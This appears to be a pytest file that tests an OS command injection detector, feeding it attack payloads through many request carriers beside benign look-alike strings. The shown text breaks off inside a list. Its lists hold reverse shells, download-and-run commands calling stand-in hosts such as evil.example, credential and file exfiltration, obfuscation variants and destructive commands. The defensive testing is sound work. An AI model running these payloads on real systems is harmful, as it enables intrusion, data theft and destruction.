"""OS command injection written the way attackers write it (Unix shell, cmd.exe, PowerShell) beside benign near-misses."""
from __future__ import annotations

import base64
import json
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape

import pytest

from sensor.detect import THRESHOLD, rce, verdict
from tests.detect.conftest import req

# --- carriers: where a value reaches the application
_BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _printable(v: str) -> bool:
    return all(" " <= c <= "~" for c in v)


def carry(kind: str, v: str):
    if kind == "query":
        return req("/tools/ping?host=" + quote(v, safe=""))
    if kind == "query2":  # double percent-encoding, decoded twice by the application
        return req("/search?q=" + quote(quote(v, safe=""), safe=""))
    if kind == "path":
        return req("/api/files/" + quote(v, safe="") + "/download")
    if kind == "form":
        return req("/admin/diagnostics", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
                   ("action=ping&target=" + quote_plus(v) + "&count=4").encode())
    if kind == "json":
        return req("/api/v2/devices/17/exec", "POST", [("Content-Type", "application/json")],
                   json.dumps({"device": {"name": "edge-1", "probe": {"host": v, "count": 3}}}).encode())
    if kind == "json_u":  # every non-alphanumeric character as a JSON \u escape
        body = '{"filename": "' + "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in v) + '"}'
        return req("/api/convert", "POST", [("Content-Type", "application/json")], body.encode())
    if kind == "b64json":  # the application base64-decodes this field
        return req("/api/jobs", "POST", [("Content-Type", "application/json")],
                   json.dumps({"job": "report", "args": base64.b64encode(v.encode()).decode()}).encode())
    if kind == "cookie":
        return req("/account", headers=[("Cookie", "sid=8f3a2c1d9e; theme=dark; lang=" + quote(v, safe=""))])
    if kind == "ua":
        return req("/", headers=[("User-Agent", v)])
    if kind == "referer":
        return req("/", headers=[("Referer", v)])
    if kind == "header":
        return req("/api/status", headers=[("X-Forwarded-Host", v)])
    if kind == "custom":
        return req("/api/status", headers=[("X-Backup-Target", v)])
    if kind == "xml":
        body = f'<?xml version="1.0"?><diag><ping count="3"><host>{escape(v)}</host></ping></diag>'
        return req("/soap/diag", "POST", [("Content-Type", "application/xml")], body.encode())
    if kind == "xml_attr":
        # attribute values lose raw newlines to XML normalisation: an attacker writes them as character references
        attr = escape(v, {'"': "&quot;", "\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
        body = f'<?xml version="1.0"?><convert file="{attr}" format="pdf"/>'
        return req("/soap/convert", "POST", [("Content-Type", "text/xml")], body.encode())
    if kind == "multipart":
        body = (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n"
                f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"convert_opts\"\r\n\r\n{v}\r\n"
                f"--{_BOUNDARY}--\r\n")
        return req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")], body.encode())
    raise ValueError(kind)


_ROTATION = ("query", "form", "json", "cookie", "xml", "custom", "multipart", "query2", "json_u", "ua", "xml_attr",
             "b64json")


def requests_for(rows: list[str | tuple[str, str]]) -> list[tuple[str, str]]:
    """(carrier, value) pairs: explicit carriers kept, the rest rotated over every carrier that can hold the value."""
    out: list[tuple[str, str]] = []
    n = 0
    for row in rows:
        if isinstance(row, tuple):
            out.append(row)
            continue
        kind = _ROTATION[n % len(_ROTATION)]
        n += 1
        if kind in ("ua", "custom", "header") and not _printable(row):
            kind = "query"
        out.append((kind, row))
    return out


# --- attacks
SEPARATORS = [
    "127.0.0.1; id", "127.0.0.1;id", "127.0.0.1 | id", "127.0.0.1|whoami", "127.0.0.1 || uname -a",
    "127.0.0.1 & whoami", "127.0.0.1 && cat /etc/passwd", "127.0.0.1\nid", "127.0.0.1\r\nid",
    "8.8.8.8%0aid", "example.com`id`", "example.com$(id)", "file.txt|cat /etc/passwd",
    "x && curl http://203.0.113.9/x.sh|sh", "report.pdf; ls -la /", "a' ; id ; '", "a\"; id; \"",
    "\"; cat /etc/passwd #", "test$(sleep 5)", "test`sleep 5`", "'||whoami||'", "google.com\nuname -a",
    "127.0.0.1;uname -a;cat /proc/version", "|id|", ";id;", "photo.jpg\";whoami;\"", "1;ps aux",
    "--version;id", "img.png && ls -la /home", "user@example.com;id", "; netstat -an", "|| ifconfig",
]
REVERSE_SHELLS = [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'",
    "nc -e /bin/sh 10.0.0.1 4444",
    "|nc 10.0.0.1 4444 -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
    "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
    "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    ";socat TCP:10.0.0.1:4444 EXEC:bash",
    "sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    "ncat 10.0.0.1 4444 -e /bin/bash",
    ";busybox nc 10.0.0.1 4444 -e sh",
    "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
    "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.0.0.1 4444\")'",
    "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);"
    "$stream = $client.GetStream()\"",
    ";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) {s |& getline c; print c |& s}}' /dev/null",
    ";openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh",
    "; perl -e 'exec \"/bin/sh\";'", "; lua -e 'os.execute(\"/bin/sh\")'",
]
DOWNLOAD_EXEC = [
    "wget http://203.0.113.9/x.sh -O- | sh",
    ";wget -q -O /tmp/x http://198.51.100.7/x && chmod +x /tmp/x && /tmp/x",
    "curl -s http://evil.example/i.sh | bash",
    "|curl -fsSL https://evil.example/setup | sudo bash -",
    ";curl http://evil.example/x -o /tmp/x;chmod 777 /tmp/x;/tmp/x",
    "; busybox wget http://198.51.100.4/bot.arm7; chmod 777 bot.arm7; ./bot.arm7",
    "cd /tmp; wget http://198.51.100.4/mips; chmod +x mips; ./mips",
    ";cd${IFS}/tmp;wget${IFS}http://198.51.100.4/x;sh${IFS}x",
    "$(wget -qO- http://evil.example/x|sh)",
    "certutil -urlcache -split -f http://evil.example/a.exe C:\\Windows\\Temp\\a.exe",
    "& certutil.exe -urlcache -f http://10.0.0.1/shell.exe shell.exe & shell.exe",
    "bitsadmin /transfer myjob /download /priority high http://evil.example/a.exe C:\\Users\\Public\\a.exe",
    "| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX(New-Object Net.WebClient)"
    ".DownloadString('http://evil.example/a.ps1')\"",
    "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')",
    "iex (iwr http://evil.example/a.ps1 -UseBasicParsing)",
    "mshta http://evil.example/payload.hta",
    "& mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell\"\", 0 : window.close\")",
    "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";GetObject(\"script:http://evil.example/a.sct\")",
    "& cmd /c powershell -c \"Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile a.exe\"",
    "& cmd.exe /c certutil -decode payload.b64 payload.exe",
    "| tftp -i 10.0.0.1 GET nc.exe",
    "python -c \"import urllib.request;exec(urllib.request.urlopen('http://evil.example/x').read())\"",
    "& Start-Process powershell -ArgumentList '-nop -w hidden'",
    "| msiexec /q /i http://evil.example/a.msi",
    "& wmic process call create \"cmd /c calc.exe\"",
    "| wmic os get /format:\"http://evil.example/a.xsl\"",
    "& schtasks /create /tn upd /tr \"C:\\Users\\Public\\a.exe\" /sc minute",
    "&powershell -nop -c \"(New-Object System.Net.WebClient).DownloadFile('http://evil.example/a.exe','a.exe')\"",
    "| Invoke-Expression (New-Object Net.WebClient).DownloadString('http://e.example/x')",
    "| powershell iwr http://evil.example/a -OutFile a.exe",
    "; php -r 'system(file_get_contents(\"http://evil.example/x\"));'",
]
BLIND = [
    ";sleep 5", "| sleep 10", "&& sleep 5 &&", "$(sleep 5)", "`sleep 5`", "; ping -c 10 127.0.0.1",
    "| ping -n 10 127.0.0.1", "& timeout /t 10", "& ping -n 21 127.0.0.1 &", "nslookup $(whoami).attacker.example",
    ";nslookup `whoami`.x.oast.example", "|| curl http://x.oast.example/$(id|base64)",
    "; dig $(hostname).collab.example", "& nslookup %USERNAME%.x.oast.example", ";sleep${IFS}5;",
    "x'; sleep 5 #", "\"|sleep 7|\"", ";ping${IFS}-c${IFS}5${IFS}127.0.0.1", "|timeout 10", "\nsleep 9\n",
    "|| ping -n 5 127.0.0.1", "& for /f %i in ('whoami') do nslookup %i.x.oast.example",
    "; curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
]
EXFIL = [
    "; cat /etc/passwd | base64", "$(cat /etc/shadow)", ";cat /etc/passwd | nc 10.0.0.1 9999",
    "| curl -d @/etc/passwd http://evil.example", ";curl -F \"f=@/etc/shadow\" http://evil.example/up",
    "&& wget --post-file=/etc/passwd http://evil.example", ";tar czf - /home | nc 10.0.0.1 9999",
    "; cat ~/.ssh/id_rsa", "| type C:\\Windows\\win.ini", "& type %SYSTEMROOT%\\win.ini", ";env", ";printenv",
    "| head -n 5 /etc/passwd", ";ls -la /root", "& dir C:\\Users", "| net user", "& net localgroup administrators",
    "| systeminfo", "& whoami /priv", "; xxd /etc/shadow", "|sed -n 1p /etc/passwd", ";tail -n 20 /var/log/auth.log",
    ";find / -perm -4000 -type f 2>/dev/null", "; crontab -l", ";sudo -l", "; cat /proc/self/environ",
    "|| reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
]
UNIX_EVASIONS = [
    ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", "{cat,/etc/passwd}", ";w'h'o'am'i",
    ";c\"a\"t /etc/passwd", ";\\w\\h\\o\\a\\m\\i", ";/???/c?t /e??/p?ss??", "/???/c?t /e??/p?ss??",
    ";/bin/c[a]t /etc/passwd", ";cat ${PATH:0:1}etc${PATH:0:1}passwd", ";who$@ami", "who$@ami",
    ";$'\\x63\\x61\\x74' /etc/passwd", ";$'\\143\\141\\164' /etc/passwd", ";echo d2hvYW1p | base64 -d | sh",
    "echo 'bHMgLWxh' | base64 --decode | bash", ";echo imaohw | rev | sh", "$(rev<<<'imaohw')", ";w$()hoami",
    ";wh\\oami", ";ca$@t /etc/passwd", ";c${u}at /etc/passwd", ";X=$'cat\\x20/etc/passwd'&&$X",
    ";a=c;b=at;$a$b /etc/passwd", "$(printf '\\167\\150\\157\\141\\155\\151')", ";/usr/bin/wh?ami", ";/bin/ba?h -c id",
    ";cat</etc/passwd", ";{ls,-la,/}", ";ls${IFS}-la", "127.0.0.1\ncat /etc/passwd", "\n/bin/cat /etc/passwd",
    ";cat /e*c/p*d", "; \\c\\a\\t /etc/passwd", ";$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
    "`echo d2hvYW1p|base64 -d`", ";wh''oami", ";i\\d", ";$(tr '[A-Z]' '[a-z]'<<<'WHOAMI')", "a;/b?n/?s -la",
    ";u\\n\\a\\m\\e -a", "|c'a't${IFS}/e't'c/p'a's's'w'd", ";{wget,http://evil.example/x,-O,/tmp/x}",
    ";${SHELL} -c id", "$(<\\/etc\\/passwd)",
]
WINDOWS_EVASIONS = [
    "& WhOaMi", "| w^h^o^a^m^i", "& %COMSPEC% /c whoami", "& c^m^d /c \"who^ami\"",
    "| type C%PATH:~0,1%windows%PATH:~0,1%win.ini", "& %COMSPEC:~-7,1%%COMSPEC:~-8,1%d /c whoami",
    "& cmd /c \"set x=who&& set y=ami&& call %x%%y%\"",
    ";powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
    ";powershell -c \"sal x iex; x 'whoami'\"", "; powershell -ep bypass -c \"& ('i'+'ex') 'whoami'\"",
    "& pow^ers^hell -c whoami", "& \"c:\\windows\\system32\\cmd.exe\" /c dir", "| type c:\\boot.ini",
    "& echo %username%", "& start calc", "| powershell -c \"gci env:\"", "& net user hacker P@ss123 /add",
    "& vssadmin delete shadows /all /quiet", "| Get-Content C:\\Windows\\win.ini", "; iex 'whoami'",
    "& CmD /C WhOaMi", "| cmd /v:on /c \"set a=whoami&&!a!\"", "&& P^o^w^e^r^S^h^e^l^l -c Get-Process",
    "; pwsh -c \"irm http://evil.example/a | iex\"",
]
GTFO = [
    "; gcc -o /tmp/x /tmp/x.c", "; awk 'BEGIN {system(\"/bin/sh\")}'", ";vi -c ':!/bin/sh' /dev/null",
    ";less /etc/passwd", ";zip /tmp/x.zip /etc/hosts -T -TT 'sh #'",
    ";tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", ";env /bin/sh",
    ";docker run -v /:/mnt --rm -it alpine chroot /mnt sh", ";kill -9 -1", ";rm -rf /", "; chmod 4755 /bin/bash",
    ";echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys", "; nmap --interactive", ";timeout 7d /bin/sh",
    ";strace -o /dev/null /bin/sh", ";xargs -a /etc/passwd -0", "|git -p help config", ";find . -exec /bin/sh \\; -quit",
    ";ssh -o ProxyCommand=';sh 0<&2 1>&2' x", ";base64 /etc/shadow | base64 -d", "; dd if=/etc/shadow",
    ";nohup /tmp/x &", "; mkfifo /tmp/p", ";/usr/bin/id", "& echo pwned > /var/www/html/p.txt",
]
SHELLSHOCK = [
    ("ua", "() { :; }; /bin/bash -c 'id'"), ("referer", "() { :;}; echo; /bin/cat /etc/passwd"),
    ("ua", "() { _; } >_[$($())] { id; }"), ("custom", "() { :; }; /usr/bin/wget http://evil.example/x -O /tmp/x"),
    ("cookie", "() { :; }; ping -c 3 10.0.0.1"), ("ua", "() { ignored; }; echo Content-Type: text/plain; echo; id"),
]
# The same payloads carried differently: every carrier must expose them.
CARRIED = [
    ("ua", "Mozilla/5.0 $(curl http://evil.example/u|sh)"), ("referer", "https://shop.example/?q=;cat /etc/passwd"),
    ("header", "127.0.0.1;id"), ("custom", "`wget http://evil.example/x -O /tmp/x`"), ("path", ";cat /etc/passwd"),
    ("path", "$(id)"), ("xml_attr", "a.docx\"; curl http://evil.example|sh; \""), ("xml", "$(whoami)"),
    ("json_u", "a.png;id"), ("b64json", "; cat /etc/passwd"), ("query2", "|| id"), ("cookie", ";uname -a"),
    ("multipart", "-density 300 x.pdf; nc -e /bin/sh 10.0.0.1 4444"), ("form", "| net user"),
]
# Written after the detector changes for the lists above, measured once before any further tuning.
ROUND2 = [
    ";echo${IFS}$(id)", "|/usr/bin/curl${IFS}-d${IFS}@/etc/passwd${IFS}evil.example", "$(curl -s evil.example/$(whoami))",
    ";ls\t-la", "127.0.0.1\n\rwhoami", "x||nslookup${IFS}x.oast.example", ";{echo,aWQ=}|{base64,-d}|bash",
    "; echo -e '\\x69\\x64' | sh", "; printf %s 'id' | sh", ";exec 3<>/dev/tcp/10.0.0.1/80",
    "; bash<<<$(base64 -d<<<aWQ=)", ";sh</dev/tcp/10.0.0.1/4444", "$(bash -c 'id')", "\";id;\"", ";cat /etc/hosts",
    "| cat /etc/issue", ";uname", ";hostname", "|whoami", ";/bin/sh", "& /bin/bash -c \"id\"",
    ";python -m http.server 8000", ";nc -lvp 4444 -e /bin/sh", ";ncat --exec cmd.exe 10.0.0.1 4444",
    "& powershell -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://e.example/a'))\"",
    "& powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==", "|| cmd.exe /k \"ipconfig /all\"",
    "& ipconfig /all", "| tasklist /v", "& taskkill /f /im defender.exe", "& net view",
    "& netsh advfirewall set allprofiles state off",
    "& reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\a.exe",
    "& sc create evil binPath= \"C:\\a.exe\"", "& wevtutil cl security", "& bcdedit /set {default} recoveryenabled no",
    "& cscript //nologo C:\\Users\\Public\\a.vbs", "& wscript.exe C:\\Users\\Public\\a.js",
    "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "| findstr /si password *.txt *.xml *.ini",
    "&& icacls C:\\Windows\\Tasks /grant Everyone:F", ";ruby -e 'system(\"id\")'", ";php -r 'system(\"id\");'",
    ";perl -MIO -e '$p=fork;exit,if($p);'", ";node -e \"require('child_process').execSync('id')\"",
    ";gawk 'BEGIN{system(\"id\")}'", ";find / -name \"*.conf\" -exec cat {} \\;", "; export PATH=/tmp:$PATH",
    ";alias ls='rm -rf /'", "; history -c", "; unset HISTFILE", ";wget -O - http://e.example/x | perl",
    ";curl -o /tmp/.x http://e.example/x;/tmp/.x", ";cat /etc/passwd > /var/www/html/x.txt",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg== | base64 -d > shell.php", "; ls /var/www", "| ls -R /", "\n\nid",
    ";i''d", ";wh\"\"oami", ";who``ami", ";$(which bash) -c id", ";ls $HOME", ";c\\at /etc/passwd",
    "1' | nc 10.0.0.1 4444 #",
]
ROUND2_BENIGN = [
    "R&B music", "D&D 5e character sheet", "Procter & Gamble", "Abercrombie & Fitch", "Barnes & Noble",
    "Kids' toys; games & puzzles", "Step 1: unzip the file; Step 2: run setup.exe", "Go to Settings > Privacy > Location",
    "A > B and B > C", "Price < $20", "<3 thanks!", "C# vs Java", "F# tutorial", "I/O error on disk 2", "TCP/IP settings",
    "N/A", "and/or", "50/50 split", "w/ cheese", "24/7 support", "user_id: 42; role: admin",
    "Cat excavator 320", "Dig Dug arcade", "dig safe call 811", "Time Machine backup", "tar heels basketball",
    "zip code 10001", "gzip compression nginx", "head of marketing", "top gun maverick", "more than 5 items",
    "make up brushes", "make a wish", "locate my phone", "chown vs chmod", "ruby ring size 7", "python snake care",
    "node version manager", "php developer jobs", "java coffee beans", "php 8.3 release date", "python 3.12 download",
    "ssh key github", "mysql workbench download", "docker desktop for mac", "awk meaning", "W 42nd St, New York",
    "ex-wife", "rc car 1/10 scale", "gcc compiler install ubuntu", "Apt 4B, 123 Main St", "nice to meet you",
    "wait for it", "less than 3 days", "sort by: newest", "fold-out sofa bed", "cut-off jeans",
    "%appdata% folder location", "open %temp% and delete files", "edit C:\\Windows\\System32\\drivers\\etc\\hosts",
    "how to use Get-ChildItem",
    # carets, quotes, code spans and fences, timing words: the shapes of the newer rules
    "x^2 + y^2 = r^2", "2^10 = 1024", "e^(i*pi) + 1 = 0", "Rock 'n' Roll | Jazz | Blues", "'Hello' | 'World'",
    "Meeting at 3; sleep 8", "Press Ctrl+Alt+Del; then log in", "Run `npm install` and then `npm start` in the folder",
    "```python\nimport os\nprint(os.getcwd())\n```", "Cmd+Shift+4 to take a screenshot on a Mac.",
    "the (a|b) regex group", "kill bill | pulp fiction | jackie brown", "find & replace; undo", "tom's diner; 24h",
    "ping: 23ms | jitter: 2ms", "done & dusted", "whoami? a journey", "Cheat Sheet: ls, cd, pwd",
    "function() { return x; }", "foo() { bar(); }", "Mr. & Mrs. Smith", "C:\\Users\\bob\\Desktop\\notes.txt",
    "%USERPROFILE%\\Downloads", "node_modules/.bin/tsc", "$HOME/.config", "if (a == b) { return 1; }",
    "men's jeans|27\" monitor|cat & dog toys", "<(^_^)>", "node ../ relative import",
    "Try http://localhost:8000 in your browser after running `python -m http.server`.",
]
# Round 3: written after the round-2 fixes, measured once before any further tuning.
ROUND3 = [
    ";${HOME:0:1}bin${HOME:0:1}cat /etc/passwd", ";cat /etc/pas*", ";cat /etc/pa??wd", ";ca\\t /et\\c/pa\\sswd",
    "; \"c\"a't' /etc/passwd", "|| /usr/bin/id", "$( /bin/id )", ";cat$u /etc$u/passwd$u", ";cat${u} /etc/passwd",
    ";$(printf \"\\x77\\x68\\x6f\\x61\\x6d\\x69\")", ";echo$IFS\"aWQ=\"|base64$IFS-d|sh", ";IFS=,;cat,/etc/passwd",
    ";/bin/cat$IFS/etc/passwd", "\ncat\t/etc/passwd", ";curl${IFS}-T${IFS}/etc/passwd${IFS}evil.example",
    ";wget --post-data=\"$(cat /etc/passwd)\" http://e.example", ";ping -c 1 $(whoami).e.example",
    ";host $(id -u).e.example", ";curl e.example/?$(uname -a|base64)", "| dig @e.example $(cat /etc/hostname)",
    "& powershell Resolve-DnsName $env:USERNAME.e.example",
    "& %SYSTEMROOT%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c id", "& C:\\Windows\\System32\\cmd.exe /c whoami",
    "| \"C:\\Program Files\\Git\\bin\\bash.exe\" -c id", "& cmd /c echo %USERNAME% > C:\\inetpub\\wwwroot\\x.txt",
    "& type C:\\inetpub\\wwwroot\\web.config", "& copy \\\\10.0.0.1\\share\\nc.exe %TEMP%\\nc.exe",
    "& \\\\10.0.0.1\\share\\payload.exe", "& net use \\\\10.0.0.1\\ipc$ /user:admin pass", "; sudo su -",
    "; su -c id root", ";nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &", ";screen -dm bash -c 'sleep 1; id'",
    ";(id)", ";{ id; }", "a || a=$(id) && echo $a", "\"$(id)\"", "1;$(id)", ";ls -la ~", ";head /etc/shadow",
    ";more /etc/passwd", ";od -c /etc/passwd", ";strings /etc/passwd", ";diff /etc/passwd /dev/null", ";nl /etc/passwd",
    ";sort /etc/passwd", ";tac /etc/passwd", ";grep -r password /var/www", ";mysql -u root -e 'show databases'",
    ";psql -c 'select 1'", ";redis-cli flushall", ";kubectl get secrets -A", ";docker ps",
    ";aws sts get-caller-identity", ";gcloud auth print-access-token",
    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token", ";env | grep -i key", ";set", "&set", "|dir", ";pwd",
    ";w", ";last", ";uptime",
]
ROUND3_BENIGN = [
    "Tom & Jerry; Mickey & Minnie", "Buy now | Free returns | 30-day guarantee", "sleep well | eat well", "2 lbs; 3 oz",
    "cat litter & dog food", "head-to-toe", "Yes; No; Maybe", "Pass: 8/10; Fail: 2/10", "id: 7f3a-22; status: ok",
    "Date: 2024-05-01; Time: 14:00", "top; bottom; left; right", "Find: 'foo' | Replace: 'bar'", "who's there?",
    "what's up; how are you", "Sort: price | rating | newest", "Ping Golf G430 driver", "Kill Devil Hills NC",
    "Echo Park, Los Angeles", "Time Out London", "Head Start program", "Wait Wait Don't Tell Me", "Nice, France",
    "Split, Croatia", "Paste magazine", "Free | Pro | Enterprise", "export & import business",
    "install & setup service", "chmod 755 explained", "sudo meaning in linux", "curl hair products",
    "python 3 vs python 2", "Ruby Tuesday menu", "php vs python for web", "docker vs kubernetes",
    "ssh into server tutorial", "telnet star wars", "nc dmv appointment", "zip ties 12 inch", "tar sands oil",
    "Java Chip Frappuccino", "Node 18 end of life", "gcc 13 release notes", "git cheat sheet", "vim vs emacs",
    "kill team starter set", "find my iphone", "date night | movie night", "time: 3pm; place: cafe",
    "Dial 911 & stay calm", "%20 in URL meaning", "100%|#####| 50/50 [00:10<00:00]", "a && b || c logic table",
    "x = y | z bitwise", "chmod +x not working", "$PATH vs $HOME",
]

ATTACKS = requests_for(SEPARATORS + REVERSE_SHELLS + DOWNLOAD_EXEC + BLIND + EXFIL + UNIX_EVASIONS +
                       WINDOWS_EVASIONS + GTFO + SHELLSHOCK + CARRIED + ROUND2 + ROUND3)

# --- benign near-misses: prose, names, codes and snippets with the same characters and words
BENIGN_VALUES = [
    # separators in prose and names
    "Tom & Jerry", "cats; dogs", "A|B testing", "Black & Decker drill", "salt & pepper", "R&D department",
    "AT&T", "Q&A", "Johnson & Johnson baby shampoo", "rock 'n' roll", "It's 5 o'clock; time for tea",
    "Buy 2 | Get 1 free", "Home | About | Contact", "Jim's BBQ | Best ribs in town", "100% cotton | machine wash",
    "I love cats & dogs; mostly cats", "Crime & Punishment; War & Peace", "mac & cheese | $5", "Bed, Bath & Beyond",
    "Marks & Spencer", "H&M", "B&B near me", "fish & chips", "Earth, Wind & Fire", "Terms & Conditions",
    "Find & Replace", "Copy & Paste", "Sort & Filter", "Make & Model", "Wait & see", "size: M; color: red",
    "Mon-Fri 9am-5pm | Sat 10am-2pm", "Ingredients: flour; sugar; eggs", "Please call me at 5pm; thanks!",
    "Type: Hardcover; Pages: 320", "at&t; verizon; t-mobile", "ID card; passport", "yes | no",
    "Leave at the back door; ring twice", "Shell & Tube heat exchanger", "Time & Date",
    # commands as words
    "cat food", "find a store", "sleep 8 hours", "ping me when you're back", "echo dot", "Echo Dot (5th Gen)",
    "Cat 6 ethernet cable", "cat5e patch cable 10ft", "Kill Bill: Vol. 1", "The Cat in the Hat", "Less is more",
    "Head First Java", "nc state basketball", "su casa es mi casa", "who am i", "ping pong table", "sleep mask",
    "kill switch", "golf tee", "date night ideas", "more info", "How do I kill a process?", "find my order",
    "Sort by price: low to high", "head & shoulders shampoo", "export to csv", "Sleep 5 hours; wake up refreshed",
    "Rm 101, Bldg 5", "touch screen laptop", "watch strap 20mm", "rev limiter", "curl cream for hair",
    "wget vs curl", "python list comprehension", "perl regex tutorial", "sleep apnea", "set of 4 mugs",
    "top 10 gifts", "tail light bulb", "cut & sew", "split pea soup", "tr-808 drum machine", "uniq id card",
    "time flies like an arrow", "whoami command in windows", "how to use grep", "bash script tutorial",
    "linux ls command options", "curl vs wget", "what does && mean in bash", "the | operator in bash",
    "use ; to separate statements", "How to set PATH on Windows 10", "How to open PowerShell in Windows 11",
    "run cmd as administrator", "difference between > and >> in bash", "nslookup not working",
    "Sleep Number bed", "mount everest tours", "Finger Lakes wine",
    # money, numbers, phones, templates, paths, tokens
    "$5", "$19.99", "under $50 & free shipping", "$5-$10", "Hello ${name}, your order ${orderId} shipped",
    "{{user.name}}", "#{first_name}", "Dear %NAME%,", "+1 (555) 123-4567", "(212) 555-0199 ext. 42",
    "+44 20 7946 0958", "1-800-FLOWERS", "report_2024.txt", "backup.tar.gz", "my-file (1).pdf",
    "Install to C:\\Program Files\\Rampart", "My files are in C:\\Users\\Anna\\Documents",
    "Error at C:\\Program Files (x86)\\Steam\\steam.exe", "\\\\fileserver\\share\\reports",
    "Saved to D:\\Backups\\2024\\jan.zip", "john.doe+shop@example.com", "2024-01-05T10:00:00Z",
    "font-family: Arial; font-size: 12px", "width=100;height=200", "https://example.com/search?q=shoes&page=2",
    "5 < 10 && 10 > 5", "x = a || b;", "$(document).ready(function() { init(); });", "$('#menu').toggle();",
    "if (a && b) { save(); }", "for i in range(10): print(i)", "O'Brien & Sons", "Ben & Jerry's",
    "SKU: AB-1234|XL|BLUE", "tags: linux; devops; ci", "Re: your ticket #4521 | status: open",
]
BENIGN_HEADERS = [
    ("ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
    ("ua", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"),
    ("ua", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570"),
    ("ua", "python-requests/2.31.0"), ("ua", "okhttp/4.12.0"), ("ua", "Go-http-client/1.1"),
    ("referer", "https://www.google.com/search?q=cat+food&oq=cat+food&sourceid=chrome&ie=UTF-8"),
    ("referer", "https://shop.example/c/tools?sort=price|asc&brand=Black+%26+Decker"),
    ("cookie", "lang:en|cur:USD|tz:Europe/Berlin"), ("cookie", "GA1.2.1234567890.1700000000"),
    ("custom", "nightly; keep=7; compress=gzip"),
]
BENIGN = requests_for(BENIGN_VALUES + ROUND2_BENIGN + ROUND3_BENIGN) + BENIGN_HEADERS


def _label(row: tuple[str, str]) -> str:
    return f"{row[0]}:{row[1][:60]}"


# Encodings and carriers that the generic carriers above do not produce.
RAW_ATTACKS = [
    req("/cgi-bin/status.cgi", headers=[("Referer", "() { :;}; /bin/bash -c \"nc 10.0.0.1 4444 -e /bin/sh\"")]),
    req("/ping?host=127.0.0.1%26%2359%3Bid"),                                    # HTML entity `&#59;` for `;`
    req("/ping", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
        b"host=127.0.0.1&#59;cat /etc/passwd"),                                   # raw entity split by the form parser
    req("/ping?host=127.0.0.1%250aid"),                                          # double-encoded newline
    req("/api/diag", "POST", [("Content-Type", "application/xml")],
